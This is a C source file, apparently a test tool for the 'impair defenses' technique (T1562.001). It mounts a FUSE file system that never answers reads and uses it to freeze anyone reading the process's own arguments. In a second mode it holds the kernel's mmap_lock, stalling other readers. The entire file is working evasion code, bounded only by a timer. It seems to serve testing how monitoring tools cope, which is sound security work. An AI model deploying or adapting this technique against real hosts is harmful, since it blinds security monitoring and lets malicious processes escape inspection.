// SPDX-License-Identifier: Apache-2.0
// fuse-argv FOLDER args|lock SECONDS: holds up who reads its arguments (T1562.001, impair defenses). It mounts a file
// system at FOLDER that it serves itself, and never answers a read of the file there. `args`: it maps the file over a
// page of its own arguments. `lock`: one of its threads reads a mapping of the file through /proc/self/mem, which
// keeps mmap_lock, and another one waits to write under the lock: so everybody else waits, too. Prints "ready" when
// that is so. A child serves the file system: it ends with its parent, and with it all that is held up. That is after
// SECONDS at the latest.
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "join-cgroup.h"

#define PAGE	  4096
#define LONG	  (3 * PAGE)
#define FILE_NODE 2

static int device;
static char *mapped;
static volatile int *is_read; /* shared with the child */
static volatile pid_t writer;

static void answer(const struct fuse_in_header *in, const void *body, size_t bytes, int error)
{
	char out[1024];
	struct fuse_out_header head = {.len = sizeof(head) + bytes, .error = error, .unique = in->unique};

	memcpy(out, &head, sizeof(head));
	memcpy(out + sizeof(head), body, bytes);
	if (write(device, out, head.len) < 0 && errno != ENOENT)
		fail("answer");
}

static struct fuse_attr attributes(uint64_t node)
{
	struct fuse_attr attr = {.ino = node, .nlink = 1, .blksize = PAGE};

	attr.mode = node == FILE_NODE ? S_IFREG | 0644 : S_IFDIR | 0755;
	attr.size = node == FILE_NODE ? 16 * PAGE : 0;
	return attr;
}

static void serve_one(const struct fuse_in_header *in)
{
	struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = PAGE};
	struct fuse_entry_out entry = {.nodeid = FILE_NODE, .entry_valid = 3600, .attr_valid = 3600};
	struct fuse_attr_out attr = {.attr_valid = 3600, .attr = attributes(in->nodeid)};
	struct fuse_open_out opened = {.fh = 1};

	entry.attr = attributes(FILE_NODE);
	switch (in->opcode) {
	case FUSE_INIT:
		answer(in, &init, sizeof(init), 0);
		break;
	case FUSE_LOOKUP:
		answer(in, &entry, sizeof(entry), 0);
		break;
	case FUSE_GETATTR:
		answer(in, &attr, sizeof(attr), 0);
		break;
	case FUSE_OPEN:
		answer(in, &opened, sizeof(opened), 0);
		break;
	case FUSE_READ:
		*is_read = 1; /* and there is no answer, ever */
		break;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
	case FUSE_INTERRUPT:
		break;
	default:
		answer(in, "", 0, -ENOSYS);
	}
}

static void serve(void)
{
	static char request[1 << 20];

	is_read = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (is_read == MAP_FAILED)
		fail("mmap");
	if (fork()) {
		close(device);
		return;
	}
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	close(1); /* who waits for the end of the output does not wait for this one */
	while (read(device, request, sizeof(request)) > 0)
		serve_one((struct fuse_in_header *)request);
	_exit(0);
}

static void mount_at(const char *folder)
{
	char options[128];

	if (unshare(CLONE_NEWNS) || mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL))
		fail("mount namespace");
	device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (device < 0)
		fail("/dev/fuse");
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=%d,group_id=%d", device, getuid(), getgid());
	if (mount("attack", folder, "fuse", MS_NOSUID | MS_NODEV, options))
		fail("mount fuse");
}

static void *read_slowly(void *nothing)
{
	char byte;
	int memory = open("/proc/self/mem", O_RDONLY);

	(void)nothing;
	if (pread(memory, &byte, 1, (off_t)(uintptr_t)mapped) < 0)
		fail("/proc/self/mem");
	return NULL;
}

static void *write_after(void *nothing)
{
	(void)nothing;
	while (!*is_read)
		usleep(1000);
	writer = syscall(SYS_gettid);
	mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	return NULL;
}

static char state_of(pid_t thread)
{
	static char path[64], text[256];
	ssize_t length;
	int fd;

	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", thread);
	fd = open(path, O_RDONLY);
	length = read(fd, text, sizeof(text) - 1);
	close(fd);
	return length > 0 ? strrchr(text, ')')[2] : '?';
}

static void keep_lock(void)
{
	pthread_t threads[2];

	/* Both at once: a thread needs memory for its stack, which there is none once the lock is kept. */
	pthread_create(&threads[0], NULL, write_after, NULL);
	pthread_create(&threads[1], NULL, read_slowly, NULL);
	while (!writer || state_of(writer) != 'D')
		usleep(1000);
}

/* The arguments are long enough to have a page that holds nothing else. */
static void again_with_long_arguments(char **argv)
{
	char *padding = calloc(1, LONG + 1);
	char *arguments[] = {argv[0], argv[1], argv[2], argv[3], padding, NULL};

	memset(padding, 'x', LONG);
	execv("/proc/self/exe", arguments);
	fail("exec");
}

int main(int argc, char **argv)
{
	char path[4096];
	uintptr_t page;
	int file, is_lock;

	if (argc == 4)
		again_with_long_arguments(argv);
	if (argc != 5)
		return 99;
	alarm(atoi(argv[3]));
	is_lock = !strcmp(argv[2], "lock");
	snprintf(path, sizeof(path), "%s/page", argv[1]);
	mount_at(argv[1]);
	serve();
	file = open(path, O_RDONLY);
	if (file < 0)
		fail(path);
	page = ((uintptr_t)argv[4] + PAGE) & ~(uintptr_t)(PAGE - 1);
	mapped = mmap(is_lock ? NULL : (void *)page, PAGE, PROT_READ, MAP_PRIVATE | (is_lock ? 0 : MAP_FIXED), file, 0);
	if (mapped == MAP_FAILED)
		fail("mmap");
	if (is_lock)
		keep_lock();
	if (write(1, "ready\n", 6) != 6)
		return 1;
	for (;;)
		pause();
}
